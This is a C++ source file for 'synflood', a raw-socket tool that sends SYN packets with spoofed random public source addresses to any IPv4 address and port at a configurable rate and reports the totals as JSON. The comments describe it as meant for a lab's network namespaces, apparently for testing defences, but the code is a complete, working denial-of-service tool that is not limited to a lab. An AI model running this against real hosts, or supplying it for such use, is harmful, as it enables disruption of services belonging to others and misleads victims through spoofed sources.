// SPDX-License-Identifier: Apache-2.0
// synflood: so many SYNs to one address and port, from random sources, at a stated rate. For a lab's network namespaces,
// whose router must have a blackhole route for the answers. Says one line of JSON at its end.
#include <CLI/CLI.hpp>
#include <algorithm>
#include <arpa/inet.h>
#include <array>
#include <cerrno>
#include <chrono>
#include <iostream>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <nlohmann/json.hpp>
#include <random>
#include <sys/socket.h>
#include <system_error>
#include <thread>
#include <unistd.h>

namespace {

using Clock = std::chrono::steady_clock;

constexpr size_t kBatchMax = 64;
constexpr std::chrono::milliseconds kTick{1};
constexpr uint8_t kTtl = 64;
constexpr uint16_t kMss = 1460;

struct Syn {
    iphdr ip{};
    tcphdr tcp{};
    std::array<uint8_t, 4> mss{TCPOPT_MAXSEG, TCPOLEN_MAXSEG, kMss >> 8, kMss & 0xff};
};
static_assert(sizeof(Syn) == 44);

// RFC 1071, over the TCP part and its pseudo header (RFC 9293, 3.1).
uint16_t tcp_checksum(const Syn &syn) {
    std::array<uint16_t, (sizeof(Syn) - sizeof(iphdr)) / 2> words;
    std::copy_n(reinterpret_cast<const uint8_t *>(&syn) + sizeof(iphdr), sizeof words, reinterpret_cast<uint8_t *>(words.data()));
    uint32_t sum = (syn.ip.saddr & 0xffff) + (syn.ip.saddr >> 16) + (syn.ip.daddr & 0xffff) + (syn.ip.daddr >> 16) +
                   htons(IPPROTO_TCP) + htons(sizeof words);
    for (const uint16_t word : words) sum += word;
    sum = (sum >> 16) + (sum & 0xffff);
    return static_cast<uint16_t>(~(sum + (sum >> 16)));
}

// Unicast, and nobody whom a lab has: private networks, this network, loopback and the VIPs' network.
bool is_stranger(uint32_t address) {
    const uint32_t first = address >> 24;
    return first != 0 && first != 10 && first != 127 && first < 224 && address >> 8 != 0xc63364;    // 198.51.100.0/24
}

class Flood {
public:
    Flood(const sockaddr_in &target, uint32_t seed) : target_(target), random_(seed) {
        socket_ = ::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
        if (socket_ < 0) throw std::system_error(errno, std::generic_category(), "raw socket");
        for (size_t i = 0; i < kBatchMax; ++i) {
            parts_[i] = {&syns_[i], sizeof(Syn)};
            messages_[i].msg_hdr = {.msg_name = &target_, .msg_namelen = sizeof target_, .msg_iov = &parts_[i], .msg_iovlen = 1,
                                    .msg_control = nullptr, .msg_controllen = 0, .msg_flags = 0};
        }
    }
    ~Flood() { ::close(socket_); }
    Flood(const Flood &) = delete;
    Flood &operator=(const Flood &) = delete;

    // Sends at most so many; how many left.
    size_t send(size_t count) {
        count = std::min(count, kBatchMax);
        for (size_t i = 0; i < count; ++i) syns_[i] = make();
        const int sent = ::sendmmsg(socket_, messages_.data(), static_cast<unsigned>(count), 0);
        if (sent >= 0) return static_cast<size_t>(sent);
        if (errno == ENOBUFS || errno == EAGAIN || errno == EINTR) return 0;
        throw std::system_error(errno, std::generic_category(), "sendmmsg");
    }

private:
    Syn make() {
        uint32_t source = 0;
        do source = static_cast<uint32_t>(random_());
        while (!is_stranger(source));
        const uint64_t bits = random_();
        Syn syn;
        syn.ip.version = 4;
        syn.ip.ihl = sizeof(iphdr) / 4;
        syn.ip.tot_len = htons(sizeof(Syn));
        syn.ip.ttl = kTtl;
        syn.ip.protocol = IPPROTO_TCP;
        syn.ip.saddr = htonl(source);
        syn.ip.daddr = target_.sin_addr.s_addr;     // the kernel fills in identification and checksum (raw(7))
        syn.tcp.source = static_cast<uint16_t>(bits | htons(1024));
        syn.tcp.dest = target_.sin_port;
        syn.tcp.seq = static_cast<uint32_t>(bits >> 16);
        syn.tcp.doff = (sizeof(Syn) - sizeof(iphdr)) / 4;
        syn.tcp.syn = 1;
        syn.tcp.window = htons(UINT16_MAX);
        syn.tcp.check = tcp_checksum(syn);
        return syn;
    }

    sockaddr_in target_;
    int socket_ = -1;
    std::mt19937_64 random_;
    std::array<Syn, kBatchMax> syns_;
    std::array<iovec, kBatchMax> parts_;
    std::array<mmsghdr, kBatchMax> messages_{};
};

}  // namespace

int main(int argc, char **argv) {
    CLI::App app("A SYN flood from random sources, for the lab");
    std::string address;
    uint16_t port = 0;
    uint64_t count = 0;
    double rate = 10000;
    uint32_t seed = 1;
    app.add_option("address", address, "IPv4 address to flood")->required();
    app.add_option("port", port, "TCP port")->required();
    app.add_option("--count", count, "SYNs")->required();
    app.add_option("--rate", rate, "SYNs a second (10000)")->check(CLI::PositiveNumber);
    app.add_option("--seed", seed, "of the sources (1)");
    CLI11_PARSE(app, argc, argv);

    sockaddr_in target{};
    target.sin_family = AF_INET;
    target.sin_port = htons(port);
    if (::inet_pton(AF_INET, address.c_str(), &target.sin_addr) != 1) {
        std::cerr << "synflood: '" << address << "' is no IPv4 address\n";
        return 2;
    }
    try {
        Flood flood(target, seed);
        const auto start = Clock::now();
        uint64_t sent = 0;
        for (auto tick = start; sent < count; tick = std::max(tick + kTick, Clock::now())) {
            const double elapsed = std::chrono::duration<double>(Clock::now() - start).count();
            const uint64_t due = std::min(count, static_cast<uint64_t>(rate * elapsed) + 1);
            while (sent < due) {
                const size_t went = flood.send(due - sent);
                if (went == 0) break;
                sent += went;
            }
            std::this_thread::sleep_until(tick + kTick);
        }
        const double elapsed = std::chrono::duration<double>(Clock::now() - start).count();
        std::cout << nlohmann::ordered_json{{"sent", sent}, {"seconds", elapsed}, {"rate", static_cast<double>(sent) / elapsed}} << '\n';
    } catch (const std::exception &error) {
        std::cerr << "synflood: " << error.what() << '\n';
        return 1;
    }
}
